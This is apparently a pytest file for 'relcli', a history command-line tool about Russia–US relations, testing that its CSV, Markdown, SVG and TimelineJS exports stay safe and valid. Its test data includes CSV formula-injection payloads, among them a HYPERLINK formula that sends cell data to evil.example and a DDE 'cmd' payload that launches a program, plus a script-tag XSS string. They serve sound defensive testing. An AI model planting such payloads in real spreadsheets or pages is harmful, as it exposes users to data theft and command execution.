"""Exports that real tools accept: CSV a spreadsheet will not run, Markdown that shows the data
literally, SVG charts whose text fits, TimelineJS documents TimelineJS can load.

Data files are untrusted, so most tests here feed relcli a copy of the fixture data with hostile
titles and read the output back with the tool's own kind of reader (Python's csv, markdown-it,
an XML parser, a TimelineJS format validator).
"""

from __future__ import annotations

import csv
import io
import json
import math
import re
import xml.etree.ElementTree as ET
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from relcli import query, store
from relcli.model import TONES
from relcli.render import Projection, RenderOptions, renderer
from relcli.render.csv import FORMULA_STARTS, neutralised
from relcli.render.svg import (
    ASCENT,
    DESCENT,
    comparison_chart,
    fit,
    stats_chart,
    text_width,
    wrap,
)
from relcli.stats import compute as compute_stats
from tests.conftest import MINI


def hostile(changes: dict[str, dict[str, Any]]) -> dict[str, Any]:
    """The fixture data with some records' keys replaced: ``{"events/inf-signed": {...}}``."""
    document = json.loads(MINI.read_text(encoding="utf-8"))
    for where, values in changes.items():
        array, record_id = where.split("/")
        record = next(r for r in document[array] if r["id"] == record_id)
        record.update(values)
    return document


def csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


# ---- CSV: no formulas for spreadsheets -----------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+2",
    "-1+2",
    "-12.5",  # a negative number is prefixed too: relcli writes none of its own
    "-",
    "@SUM(A1:A9)",
    "\t=1+2",
    "=cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("title", FORMULAS)
def test_csv_prefixes_formula_cells(relcli, write_data, title: str) -> None:  # type: ignore[no-untyped-def]
    data = write_data(hostile({"events/inf-signed": {"title": title}}))
    result = relcli("--data", str(data), "timeline", "--format", "csv")
    assert result.code == 0
    row = next(r for r in csv_rows(result.out) if r["id"] == "inf-signed")
    assert row["title"] == "'" + title
    raw = relcli("--data", str(data), "timeline", "--format", "csv", "--csv-raw")
    assert next(r for r in csv_rows(raw.out) if r["id"] == "inf-signed")["title"] == title


def test_csv_leaves_ordinary_cells_alone(relcli, write_data) -> None:  # type: ignore[no-untyped-def]
    titles = {"inf-signed": "a=b+c", "new-start-signed": " =1+2", "year-2013": "'quoted'"}
    data = write_data(hostile({f"events/{k}": {"title": v} for k, v in titles.items()}))
    rows = {r["id"]: r for r in csv_rows(relcli("--data", str(data), "timeline", "-f", "csv").out)}
    assert {k: rows[k]["title"] for k in titles} == titles
    assert rows["crimea-annexed"]["date"] == "2014-03-18"  # dates and empty cells unchanged
    assert rows["crimea-annexed"]["end_date"] == "2014-03-21"
    assert rows["year-2013"]["end_date"] == ""


def test_csv_carriage_return_and_multiline_cells(relcli, write_data) -> None:  # type: ignore[no-untyped-def]
    summary = "\r=1+2\nsecond line, with a comma"
    data = write_data(hostile({"events/inf-signed": {"summary": summary}}))
    text = relcli("--data", str(data), "export", "csv", "-").out
    row = next(r for r in csv_rows(text) if r["id"] == "inf-signed")
    assert row["summary"].startswith("'\r=1+2") and row["summary"].endswith("with a comma")


COMMANDS = [
    (("timeline",), "title"),
    (("on", "12-08"), "title"),
    (("event", "inf-signed"), "title"),
    (("search", "plus"), "title"),
    (("timeline", "--fields", "title,summary"), "title"),
    (("quotes",), "text"),
    (("quote", "reagan-trust-but-verify"), "text"),
    (("actors",), "name"),
    (("actor", "Reagan"), "name"),
    (("treaties",), "name"),
    (("treaty", "INF"), "name"),
    (("eras",), "name"),
]


@pytest.mark.parametrize(("args", "column"), COMMANDS)
def test_every_command_guards_its_csv(
    relcli, write_data, args: tuple[str, ...], column: str
) -> None:  # type: ignore[no-untyped-def]
    data = write_data(
        hostile(
            {
                "events/inf-signed": {"title": "=1+2 plus"},
                "quotes/reagan-trust-but-verify": {"text": "=1+2"},
                "actors/ronald-reagan": {"name": "=1+2", "aliases": ["Reagan"]},
                "treaties/inf-treaty": {"name": "@1+2"},
                "eras/cold-war": {"name": "-1+2"},
            }
        )
    )
    rows = csv_rows(relcli("--data", str(data), *args, "--format", "csv").out)
    cells = [row[column] for row in rows]
    assert any(cell.startswith("'") for cell in cells), cells
    assert not any(cell.startswith(FORMULA_STARTS) for cell in cells)
    raw = csv_rows(relcli("--data", str(data), *args, "--format", "csv", "--csv-raw").out)
    assert any(row[column].startswith(FORMULA_STARTS) for row in raw)


def test_export_csv_guards_and_raw(relcli, write_data, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    data = write_data(hostile({"events/inf-signed": {"title": "=1+2"}}))
    safe, raw = tmp_path / "safe.csv", tmp_path / "raw.csv"
    assert relcli("--data", str(data), "export", "csv", str(safe)).code == 0
    assert relcli("--data", str(data), "export", "csv", str(raw), "--csv-raw").code == 0
    assert csv_rows(safe.read_text(encoding="utf-8"))[0]["title"] == "'=1+2"
    assert csv_rows(raw.read_text(encoding="utf-8"))[0]["title"] == "=1+2"
    assert (
        safe.read_text(encoding="utf-8") == relcli("--data", str(data), "timeline", "-f", "csv").out
    )


@pytest.mark.parametrize(
    "args",
    [
        ("timeline", "--csv-raw"),
        ("timeline", "--json", "--csv-raw"),
        ("timeline", "-f", "md", "--csv-raw"),
        ("timeline", "--jq", ".", "--csv-raw"),
        ("export", "ics", "-", "--csv-raw"),
        ("export", "timelinejs", "-", "--csv-raw"),
    ],
)
def test_csv_raw_without_csv_is_a_usage_error(relcli, args: tuple[str, ...]) -> None:  # type: ignore[no-untyped-def]
    result = relcli(*args)
    assert (result.code, result.out) == (2, "")
    assert "--csv-raw applies to CSV output" in result.err


@settings(max_examples=200, deadline=None)
@given(st.text(min_size=0, max_size=30))
def test_csv_round_trip_of_any_text(text: str) -> None:
    document = Projection(["title"], [{"title": text}])
    [safe] = csv_rows(renderer("csv")(document, RenderOptions()))
    [raw] = csv_rows(renderer("csv")(document, RenderOptions(csv_raw=True)))
    # the csv module reads "\r\n" and a lone "\r" inside a quoted cell back as written
    assert raw["title"] == text
    assert safe["title"] == ("'" + text if text[:1] in set(FORMULA_STARTS) else text)
    assert safe["title"] == neutralised(text)


# ---- Markdown: data shows literally ---------------------------------------------------------------

MARKUP_TITLE = "*bold* _x_ <b>t</b> [a](http://x) `c`"
# What rendering may produce from relcli's own structure; anything else came from the data.
TABLE_TAGS = {"table", "thead", "tbody", "tr", "th", "td"}
DOCUMENT_TAGS = TABLE_TAGS | {"h1", "h2", "p", "strong", "ul", "li", "a"}


class Html:
    """The elements of an HTML fragment and the text of each table cell and heading."""

    def __init__(self, html: str) -> None:
        from html.parser import HTMLParser

        self.tags: list[str] = []
        self.cells: list[str] = []
        self.headings: list[str] = []
        self.links: list[str] = []
        outer = self

        class Parser(HTMLParser):
            def __init__(self) -> None:
                super().__init__(convert_charrefs=True)
                self.into: list[str] | None = None

            def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
                outer.tags.append(tag)
                if tag in ("td", "h1"):
                    self.into = outer.cells if tag == "td" else outer.headings
                    self.into.append("")
                if tag == "a":
                    outer.links.append(dict(attrs).get("href") or "")

            def handle_endtag(self, tag: str) -> None:
                if tag in ("td", "h1"):
                    self.into = None

            def handle_data(self, data: str) -> None:
                if self.into is not None:
                    self.into[-1] += data

        parser = Parser()
        parser.feed(html)
        parser.close()


def markdown_html(text: str) -> str:
    """``text`` rendered as CommonMark plus GitHub's tables and strikethrough."""
    from markdown_it import MarkdownIt

    return MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(text)


def render_markdown(text: str) -> Html:
    return Html(markdown_html(text))


MARKUP = [
    MARKUP_TITLE,
    "**strong** __strong__ ~~gone~~ ~x~ $x^2$",
    "<script>alert(1)</script> <http://x.example> <a@b.example>",
    "![image](http://x/i.png) [ref][1] [^note]",
    "a | b || c",
    "&amp; &#42; &copy; a&b",
    "# not a heading #",
    "- not a list",
    "+ not a list",
    "1986. not a list",
    "1) not a list",
    "> not a quote",
    "=== not an underline",
    "--- not a rule",
    "\\*still\\* literal \\",
    "snake_case and __dunder__ and _lead and trail_",
    "Сергей _Лавров_ *Россия*",
    "    four spaces, not code",
    "``double`` ```` ",
]


@pytest.mark.parametrize("title", MARKUP)
def test_markdown_table_shows_data_literally(relcli, write_data, title: str) -> None:  # type: ignore[no-untyped-def]
    data = write_data(hostile({"events/inf-signed": {"title": title}}))
    result = relcli("--data", str(data), "timeline", "--format", "md")
    assert result.code == 0
    html = render_markdown(result.out)
    assert set(html.tags) <= TABLE_TAGS, html.tags
    assert " ".join(title.split()) in html.cells
    fields = relcli("--data", str(data), "timeline", "--fields", "title", "-f", "md").out
    assert render_markdown(fields).cells[0] == " ".join(title.split())


def test_markdown_of_the_issue_example_has_no_inline_elements(relcli, write_data) -> None:  # type: ignore[no-untyped-def]
    data = write_data(hostile({"events/inf-signed": {"title": MARKUP_TITLE}}))
    out = relcli("--data", str(data), "export", "md", "-").out
    html = render_markdown(out)
    for tag in ("em", "strong", "a", "code", "b", "img"):
        assert tag not in html.tags
    assert MARKUP_TITLE in html.cells


def test_markdown_treaty_document_shows_data_literally(relcli, write_data) -> None:  # type: ignore[no-untyped-def]
    source = {
        "title": "*Fact* [page](http://evil.example)",
        "url": "https://example.org/a_(b)_c?x=1&amp;y=2",
        "publisher": None,
        "published": None,
    }
    data = write_data(
        hostile(
            {
                "treaties/inf-treaty": {
                    "name": "# INF _Treaty_ <i>x</i> #",
                    "summary": "- a *list*? 1. no",
                    "sources": [source],
                },
                "events/inf-signed": {"title": "`code` | pipe"},
            }
        )
    )
    out = relcli("--data", str(data), "treaty", "INF", "--format", "md").out
    html = render_markdown(out)
    assert set(html.tags) <= DOCUMENT_TAGS, html.tags
    assert html.headings == ["# INF _Treaty_ <i>x</i> #"]
    assert "<p>- a *list*? 1. no</p>" in markdown_html(out)
    assert "`code` | pipe" in html.cells
    assert html.links == [source["url"]]  # the source's own link, to exactly its URL
    assert html.tags.count("a") == 1


def test_markdown_keeps_urls_and_snake_case_readable(relcli) -> None:  # type: ignore[no-untyped-def]
    from relcli.render.markdown import escape

    url = "https://en.wikipedia.org/wiki/Intermediate-Range_Nuclear_Forces_Treaty#History"
    assert escape(url) == url
    assert escape("Reagan's 'trust, but verify' (1987)") == "Reagan's 'trust, but verify' (1987)"
    assert escape("a\nb\tc") == "a b c"


@settings(max_examples=300, deadline=None)
@given(
    st.text(
        alphabet=st.sampled_from(list("*_`<>[]()!|~$&#;=+-.)1aZ л:/\\\"' \t")) | st.characters(),
        max_size=40,
    )
)
def test_markdown_escape_renders_back_to_the_text(text: str) -> None:
    from relcli.render.markdown import table
    from relcli.render.safety import clean

    html = render_markdown(table(["title"], [[text]]))
    assert set(html.tags) <= TABLE_TAGS, (text, html.tags)
    assert html.cells == [" ".join(clean(text, one_line=True).split())]


# ---- TimelineJS: documents TimelineJS can load ----------------------------------------------------

# The TimelineJS3 JSON format (timeline.knightlab.com/docs/json-format.html): what each object may
# hold, and which keys it must.
TIMELINE_KEYS = {"events", "title", "eras", "scale"}
SLIDE_KEYS = {
    "start_date",
    "end_date",
    "text",
    "media",
    "group",
    "display_date",
    "background",
    "autolink",
    "unique_id",
}
ERA_KEYS = {"start_date", "end_date", "text"}
DATE_KEYS = {
    "year",
    "month",
    "day",
    "hour",
    "minute",
    "second",
    "millisecond",
    "display_date",
    "format",
}
TEXT_KEYS = {"headline", "text"}


def _number(value: Any, where: str) -> int:
    assert isinstance(value, int | str) and not isinstance(value, bool), where
    assert str(value).lstrip("-").isdigit(), f"{where}: {value!r} is not a number"
    return int(value)


def timelinejs_date(value: Any, where: str) -> tuple[int, int, int]:
    """A TimelineJS date object, as the day TimelineJS places it on (missing parts: the first)."""
    from datetime import date

    assert isinstance(value, dict) and set(value) <= DATE_KEYS, f"{where}: {value!r}"
    year = _number(value["year"], f"{where}.year")
    month = _number(value["month"], f"{where}.month") if "month" in value else 1
    day = _number(value["day"], f"{where}.day") if "day" in value else 1
    assert "day" not in value or "month" in value, f"{where}: a day without a month"
    date(year, month, day)  # a real day: month 1-12, day within the month
    return (year, month, day)


def validate_timelinejs(document: Any) -> list[tuple[tuple[int, int, int], tuple[int, int, int]]]:
    """Check ``document`` against the TimelineJS3 JSON format; return each era's span."""
    assert isinstance(document, dict) and set(document) <= TIMELINE_KEYS, document.keys()
    events = document["events"]
    assert isinstance(events, list) and events, "TimelineJS needs at least one event"
    ids = []
    for index, slide in enumerate(events):
        where = f"events[{index}]"
        assert isinstance(slide, dict) and set(slide) <= SLIDE_KEYS, f"{where}: {slide.keys()}"
        start = timelinejs_date(slide["start_date"], f"{where}.start_date")
        if "end_date" in slide:
            assert timelinejs_date(slide["end_date"], f"{where}.end_date") >= start, where
        text = slide.get("text", {})
        assert set(text) <= TEXT_KEYS and all(isinstance(v, str) for v in text.values()), where
        assert isinstance(slide.get("group", ""), str) and isinstance(
            slide.get("display_date", ""), str
        )
        ids.append(slide.get("unique_id"))
    assert len(set(ids)) == len(ids), "unique_id must be unique"
    if "title" in document:
        title = document["title"]
        assert set(title) <= SLIDE_KEYS and set(title.get("text", {})) <= TEXT_KEYS
    spans = []
    for index, era in enumerate(document.get("eras", [])):
        where = f"eras[{index}]"
        assert set(era) <= ERA_KEYS and {"start_date", "end_date"} <= set(era), where
        start = timelinejs_date(era["start_date"], f"{where}.start_date")
        end = timelinejs_date(era["end_date"], f"{where}.end_date")
        assert end >= start, where
        assert set(era.get("text", {})) <= TEXT_KEYS, where
        spans.append((start, end))
    return spans


ONGOING = {
    "id": "russo-ukrainian-war",
    "name": "Russo-Ukrainian War",
    "aliases": [],
    "from": "2014-02-20",
    "to": None,
    "summary": "Fixture era still running.",
    "sources": [
        {"title": "F", "url": "https://example.org/w", "publisher": None, "published": None}
    ],
}


@pytest.fixture
def timeline_data(write_data) -> Path:  # type: ignore[no-untyped-def]
    """The fixture with a running era, an event ending in a year and one ending in a month."""
    document = hostile(
        {
            "events/sep-2013": {"end_date": "2013-11"},
            "events/inf-violation": {"end_date": "2015"},
        }
    )
    document["eras"].append(ONGOING)
    return write_data(document)  # type: ignore[no-any-return]


def export_timelinejs(relcli, data: Path, *args: str) -> dict[str, Any]:  # type: ignore[no-untyped-def]
    result = relcli("--data", str(data), "export", "timelinejs", "-", *args)
    assert result.code == 0, result.err
    document = json.loads(result.out)
    validate_timelinejs(document)
    return document  # type: ignore[no-any-return]


def test_timelinejs_ends_are_the_last_day_covered(relcli, timeline_data: Path) -> None:  # type: ignore[no-untyped-def]
    slides = {s["unique_id"]: s for s in export_timelinejs(relcli, timeline_data)["events"]}
    assert slides["sep-2013"]["start_date"] == {"year": "2013", "month": "9"}
    assert slides["sep-2013"]["end_date"] == {"year": "2013", "month": "11", "day": "30"}
    assert slides["inf-violation"]["end_date"] == {"year": "2015", "month": "12", "day": "31"}
    assert slides["crimea-annexed"]["end_date"] == {"year": "2014", "month": "3", "day": "21"}
    assert "end_date" not in slides["year-2013"]  # no end in the data: none invented


def test_timelinejs_eras_overlap_the_events_and_running_ones_end_at_the_last(
    relcli, timeline_data: Path
) -> None:  # type: ignore[no-untyped-def]
    everything = export_timelinejs(relcli, timeline_data)
    eras = {e["text"]["headline"]: e for e in everything["eras"]}
    assert list(eras) == ["Cold War", "The reset", "Russo-Ukrainian War"]
    assert eras["The reset"]["end_date"] == {"year": "2012", "month": "12", "day": "31"}
    assert eras["Cold War"]["end_date"] == {"year": "1991", "month": "12", "day": "26"}
    # the last day any exported event covers: inf-violation, to the end of 2015
    assert eras["Russo-Ukrainian War"]["end_date"] == {"year": "2015", "month": "12", "day": "31"}

    since_2013 = export_timelinejs(relcli, timeline_data, "--from", "2013")
    assert [e["text"]["headline"] for e in since_2013["eras"]] == ["Russo-Ukrainian War"]
    cold_war = export_timelinejs(relcli, timeline_data, "--during", "Cold War")
    assert [e["text"]["headline"] for e in cold_war["eras"]] == ["Cold War"]
    before_war = export_timelinejs(relcli, timeline_data, "--from", "2013", "--to", "2013")
    assert "eras" not in before_war  # an era overlapping none of the events is left out
    crimea = export_timelinejs(relcli, timeline_data, "--search", "crimea")
    assert crimea["eras"][0]["end_date"] == {"year": "2014", "month": "3", "day": "21"}


def test_timelinejs_of_the_bundled_data(relcli) -> None:  # type: ignore[no-untyped-def]
    bundled = store.bundled_path()
    document = export_timelinejs(relcli, bundled)
    slides = {s["unique_id"]: s for s in document["events"]}
    assert slides["dana-mission"]["end_date"] == {"year": "1783", "month": "12", "day": "31"}
    assert all(
        set(s["end_date"]) == {"year", "month", "day"} for s in slides.values() if "end_date" in s
    )
    eras = {e["text"]["headline"]: e["end_date"] for e in document["eras"]}
    assert {"Russo-Ukrainian War", "Full-scale invasion of Ukraine"} <= set(eras)
    last = max(
        timelinejs_date(s.get("end_date", s["start_date"]), s["unique_id"]) for s in slides.values()
    )
    assert timelinejs_date(eras["Full-scale invasion of Ukraine"], "era") == last
    for during in ("Cold War", "Obama", "Russian America", "Full-scale invasion of Ukraine"):
        export_timelinejs(relcli, bundled, "--during", during, "--group", "tag")


@pytest.mark.parametrize(
    "args",
    [
        ("--from", "2030"),
        ("--tag", "cuba"),
        ("--search", "no such words"),
        ("--during", "reset", "--tag", "syria"),
    ],
)
def test_timelinejs_refuses_an_empty_timeline(
    relcli, tmp_path: Path, args: tuple[str, ...]
) -> None:  # type: ignore[no-untyped-def]
    target = tmp_path / "timeline.json"
    result = relcli("export", "timelinejs", str(target), *args)
    assert (result.code, result.out) == (1, "")
    assert result.err.count("\n") == 1 and result.err.startswith("relcli: no events selected")
    assert "TimelineJS cannot load a timeline without events; nothing written" in result.err
    assert list(tmp_path.iterdir()) == []
    to_stdout = relcli("export", "timelinejs", "-", *args)
    assert (to_stdout.code, to_stdout.out) == (1, "")
    target.write_text("precious", encoding="utf-8")
    assert relcli("export", "timelinejs", str(target), "--force", *args).code == 1
    assert target.read_text(encoding="utf-8") == "precious"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["timeline.json"]


def test_other_exports_of_nothing_are_still_valid_files(relcli) -> None:  # type: ignore[no-untyped-def]
    assert relcli("export", "json", "-", "--from", "2030").out == "[]\n"
    assert relcli("export", "csv", "-", "--from", "2030").out.startswith("id,date,")
    assert relcli("export", "ics", "-", "--from", "2030").code == 0


# ---- SVG charts: every text inside the picture --------------------------------------------------

SVG = "{http://www.w3.org/2000/svg}"


def _rotated(
    point: tuple[float, float], angle: float, centre: tuple[float, float]
) -> tuple[float, float]:
    a = math.radians(angle)
    dx, dy = point[0] - centre[0], point[1] - centre[1]
    return (
        centre[0] + dx * math.cos(a) - dy * math.sin(a),
        centre[1] + dx * math.sin(a) + dy * math.cos(a),
    )


def svg_layout(
    text: str,
) -> tuple[
    float,
    float,
    list[tuple[str, list[tuple[float, float]], bool]],
    list[tuple[float, float, float, float]],
]:
    """The picture's size, each text's estimated corners (and whether it is rotated), and the
    data bars' rectangles."""
    root = ET.fromstring(text)
    width, height = float(root.get("width")), float(root.get("height"))  # type: ignore[arg-type]
    assert root.get("viewBox") == f"0 0 {width:.0f} {height:.0f}"
    default_size = float(root.get("font-size"))  # type: ignore[arg-type]
    texts = []
    for element in root.iter(f"{SVG}text"):
        content = element.text or ""
        size = float(element.get("font-size", default_size))
        extent = text_width(content, size, bold=element.get("font-weight") == "bold")
        x, y = float(element.get("x")), float(element.get("y"))  # type: ignore[arg-type]
        anchor = element.get("text-anchor", "start")
        x0 = {"start": x, "middle": x - extent / 2, "end": x - extent}[anchor]
        corners = [(x0, y - ASCENT * size), (x0 + extent, y - ASCENT * size)]
        corners += [(x0, y + DESCENT * size), (x0 + extent, y + DESCENT * size)]
        transform = element.get("transform")
        if transform:
            found = re.fullmatch(r"rotate\((\S+) (\S+) (\S+)\)", transform)
            assert found, transform
            angle, cx, cy = (float(v) for v in found.groups())
            corners = [_rotated(c, angle, (cx, cy)) for c in corners]
        texts.append((content, corners, bool(transform)))
    bars = [
        (float(r.get("x")), float(r.get("y")), float(r.get("width")), float(r.get("height")))  # type: ignore[arg-type]
        for r in root.iter(f"{SVG}rect")
        if r.find(f"{SVG}title") is not None
    ]
    return width, height, texts, bars


def assert_everything_fits(text: str) -> None:
    width, height, texts, bars = svg_layout(text)
    for content, corners, _ in texts:
        for x, y in corners:
            assert -0.5 <= x <= width + 0.5 and -0.5 <= y <= height + 0.5, (content, x, y, width)
    for x, y, w, h in bars:
        assert x >= 0 and x + w <= width + 0.5 and y >= 0 and y + h <= height + 0.5
    flat = [(c, corners) for c, corners, rotated in texts if not rotated]
    boxes = [
        (c, min(p[0] for p in k), min(p[1] for p in k), max(p[0] for p in k), max(p[1] for p in k))
        for c, k in flat
    ]
    for i, (a, ax0, ay0, ax1, ay1) in enumerate(boxes):  # no text over another, or over a bar
        for b, bx0, by0, bx1, by1 in boxes[i + 1 :]:
            assert ax1 <= bx0 or bx1 <= ax0 or ay1 <= by0 or by1 <= ay0, (a, b)
        if a != "no events":
            for x, y, w, h in bars:
                assert ax1 <= x or x + w <= ax0 or ay1 <= y or y + h <= ay0, (a, x, y)


_BUNDLED = store.load(store.bundled_path())
ACTORS = ["Obama", "Gorbachev", "Putin", "Lavrov", "Nixon"]
STATS_PERIODS = [("--during", era.name) for era in _BUNDLED.eras] + [
    *(("--during", name) for name in ACTORS),
    (),
    ("--from", "2013", "--to", "2016"),
    ("--from", "2013", "--to", "2016", "--by", "decade"),
    ("--from", "1990s", "--to", "1990s"),
    ("--from", "2022-02-24", "--to", "2022-02-24"),
    ("--from", "1732", "--by", "year"),
    ("--during", "Cold War", "--by", "year"),
    ("--during", "Full-scale invasion of Ukraine", "--tag", "sanctions"),
    ("--from", "1600", "--to", "1601"),  # nothing: a chart that says so
]


@pytest.mark.parametrize("args", STATS_PERIODS)
def test_stats_svg_text_fits_for_any_period(relcli, args: tuple[str, ...]) -> None:  # type: ignore[no-untyped-def]
    result = relcli("--data", str(store.bundled_path()), "stats", *args, "--svg", "-")
    assert result.code == 0, result.err
    assert_everything_fits(result.out)
    root = ET.fromstring(result.out)
    texts = list(root.iter(f"{SVG}text"))
    title = " ".join(t.text or "" for t in texts if t.get("font-weight") == "bold")
    if "--during" in args:
        label = query.period_named(_BUNDLED, args[args.index("--during") + 1]).label
        assert title == f"Russia–United States relations during {label}"
    legend = [t.text or "" for t in texts if (t.text or "").startswith(TONES)]
    assert [entry.split(" ")[0] for entry in legend] == list(TONES)


def test_stats_svg_of_nothing_says_so(relcli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    target = tmp_path / "empty.svg"
    result = relcli("stats", "--from", "1600", "--to", "1601", "--svg", str(target))
    assert result.code == 0
    assert result.err.splitlines() == [
        f"relcli: wrote {target} (0 events)",
        'relcli: nothing matched; the chart says "no events"',
    ]
    _, _, texts, bars = svg_layout(target.read_text(encoding="utf-8"))
    assert "no events" in [c for c, _, _ in texts] and bars == []
    assert "no events" not in relcli("stats", "--svg", "-").out
    to_stdout = relcli("stats", "--tag", "cuba", "--svg", "-")
    assert to_stdout.code == 0 and "no events" in to_stdout.out
    assert to_stdout.err == 'relcli: nothing matched; the chart says "no events"\n'
    nothing = relcli("compare", "1600", "1601", "--svg", "-")
    assert nothing.code == 0 and "the chart says" in nothing.err
    assert_everything_fits(nothing.out)


LONG_NAMES = [
    "The Very Long Named Period of Extraordinarily Complicated Relations Between Two Powers",
    "W" * 120,
    "Период обострения отношений между Россией и Соединёнными Штатами Америки",
    "A" + " b" * 90,
    "<Mischief> & \"quotes\" 'here' — and an emoji 🕊️ too",
]


@pytest.mark.parametrize("name", LONG_NAMES)
def test_svg_text_fits_for_long_era_names(relcli, write_data, name: str) -> None:  # type: ignore[no-untyped-def]
    document = json.loads(MINI.read_text(encoding="utf-8"))
    document["eras"].append({**ONGOING, "id": "long-era", "name": name, "from": "1980"})
    data = str(write_data(document))
    for args in (
        ("stats", "--during", "long-era"),
        ("stats", "--during", "long-era", "--by", "decade"),
    ):
        result = relcli("--data", data, *args, "--svg", "-")
        assert result.code == 0, result.err
        assert_everything_fits(result.out)
    compared = relcli("--data", data, "compare", "long-era", "Cold War", "2014", "--svg", "-")
    assert compared.code == 0, compared.err
    assert_everything_fits(compared.out)


@settings(max_examples=60, deadline=None)
@given(
    title=st.text(  # no lone surrogates: titles come from validated data, which refuses them
        alphabet=st.sampled_from(list("Wm@Щ Ǆ aé—🕊<&\x01\ufffe"))
        | st.characters(exclude_categories=("Cs",)),
        max_size=220,
    ),
    first=st.integers(1700, 2030),
    years=st.integers(0, 330),
    unit=st.sampled_from([None, "year", "decade"]),
)
def test_stats_chart_text_fits_for_any_title_and_period(
    title: str, first: int, years: int, unit: str | None
) -> None:
    events = [e for e in _BUNDLED.events if first <= e.date.year <= first + years]
    assert_everything_fits(stats_chart(compute_stats(events, unit), title))


@settings(max_examples=60, deadline=None)
@given(
    names=st.lists(
        st.text(alphabet=st.sampled_from(list("Wm Щ a—<&")), max_size=60), min_size=1, max_size=6
    ),
    title=st.text(max_size=200),
)
def test_comparison_chart_text_fits_for_any_names(names: list[str], title: str) -> None:
    share = {"cooperative": 0.5, "neutral": 0.25, "confrontational": 0.25}
    rows = [{"period": n, "events": 12345 * i, "tone_share": share} for i, n in enumerate(names)]
    assert_everything_fits(comparison_chart(rows, title))  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("chars", "bold", "measured"),
    [
        # advance widths in ems measured from DejaVu Sans / DejaVu Sans Bold (fontTools, hmtx)
        ("W", False, 0.989),
        ("@", False, 1.0),
        ("Q", False, 0.787),
        ("a", False, 0.613),
        ("0", False, 0.636),
        ("Ǆ", False, 1.422),
        ("W", True, 1.103),
        ("m", True, 1.042),
        ("Q", True, 0.850),
        ("&", True, 0.872),
        ("q", True, 0.716),
        ("0", True, 0.696),
        ("Щ", True, 1.326),
        ("Ǆ", True, 1.555),
        ("—", True, 1.0),
    ],
)
def test_text_width_is_an_upper_bound(chars: str, bold: bool, measured: float) -> None:
    assert text_width(chars, 100, bold=bold) >= measured * 100


def test_wrap_and_fit() -> None:
    lines = wrap(
        "Russia–United States relations during " + "W" * 80 + " and so on", 300, 16, bold=True
    )
    assert len(lines) > 2 and all(text_width(line, 16, bold=True) <= 300 for line in lines)
    assert "".join(lines).replace(" ", "") == (
        "Russia–United States relations during " + "W" * 80 + " and so on"
    ).replace(" ", "")
    assert wrap("", 100, 12) == [""]
    assert fit("Cold War", 200) == "Cold War"
    assert fit("Full-scale invasion of Ukraine", 100).endswith("…")
    assert text_width(fit("Full-scale invasion of Ukraine", 100)) <= 100
    assert fit("ab\x1b[31mc\u202e", 200) == "ab[31mc"


# ---- the four, through the installed command ----------------------------------------------------


def test_exports_through_the_installed_command(write_data, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    from tests.test_installed import run

    data = str(write_data(hostile({"events/inf-signed": {"title": "=1+2 " + MARKUP_TITLE}})))
    spreadsheet = run("--data", data, "export", "csv", "-", cwd=tmp_path)
    assert spreadsheet.returncode == 0, spreadsheet.stderr
    assert csv_rows(spreadsheet.stdout)[0]["title"] == "'=1+2 " + MARKUP_TITLE
    raw = run("--data", data, "timeline", "--format", "csv", "--csv-raw", cwd=tmp_path)
    assert csv_rows(raw.stdout)[0]["title"] == "=1+2 " + MARKUP_TITLE
    assert run("--data", data, "timeline", "--json", "--csv-raw").returncode == 2

    markdown = run("--data", data, "timeline", "--format", "md", cwd=tmp_path)
    assert "=1+2 " + MARKUP_TITLE in render_markdown(markdown.stdout).cells

    chart = run("stats", "--during", "Cold War", "--svg", "-", cwd=tmp_path)
    assert chart.returncode == 0 and chart.stderr == ""
    assert_everything_fits(chart.stdout)
    empty = run("stats", "--from", "1600", "--to", "1601", "--svg", "-", cwd=tmp_path)
    assert (
        empty.returncode == 0 and "no events" in empty.stdout and "nothing matched" in empty.stderr
    )

    timeline = run("export", "timelinejs", "-", "--from", "2022", cwd=tmp_path)
    assert timeline.returncode == 0, timeline.stderr
    document = json.loads(timeline.stdout)
    validate_timelinejs(document)
    assert [e["text"]["headline"] for e in document["eras"]] == [
        "Russo-Ukrainian War",
        "Full-scale invasion of Ukraine",
    ]
    target = tmp_path / "none.json"
    refused = run("export", "timelinejs", str(target), "--from", "2030", cwd=tmp_path)
    assert (refused.returncode, refused.stdout) == (1, "") and not target.exists()
    assert (
        refused.stderr.startswith("relcli: no events selected") and refused.stderr.count("\n") == 1
    )


@pytest.mark.parametrize("length", [0, 1, 74, 75, 76, 148, 149, 150, 223, 224, 1000])
@pytest.mark.parametrize("filler", ["a", "é", "aé"])
def test_ics_lines_fold_at_75_octets_then_74(length: int, filler: str) -> None:
    from relcli.render.ics import _fold

    line = (filler * length)[:length]
    parts = _fold(line).split("\r\n ")
    assert "".join(parts) == line
    assert all(len(p.encode()) <= (75 if n == 0 else 74) for n, p in enumerate(parts))
    if line.isascii() and len(parts) > 1:
        assert [len(p) for p in parts[:-1]] == [75, *[74] * (len(parts) - 2)]


@settings(max_examples=300, deadline=None)
@given(text=st.text(st.sampled_from("ab1 _-+=.)#&;*|\\`[]<>~$\t\n\x1béЖ")) | st.text(max_size=30))
def test_markdown_escape_takes_its_short_cuts_only_where_they_change_nothing(text: str) -> None:
    """Plain ASCII text skips ``clean``, a lone word of letters and digits the patterns, and
    text without a character ``_INLINE`` can match that pattern: the result is what the full
    path gives."""
    from relcli.render import markdown
    from relcli.render.safety import clean

    inline, block, _ = markdown._patterns()
    full = inline.sub(lambda m: "\\" + m.group(), clean(text, one_line=True))
    found = block.match(full)
    if found is not None:
        end = found.end()
        full = full[:end] + "\\" + full[end:] if found.group()[0].isdigit() else "\\" + full
    assert markdown.escape(text) == full
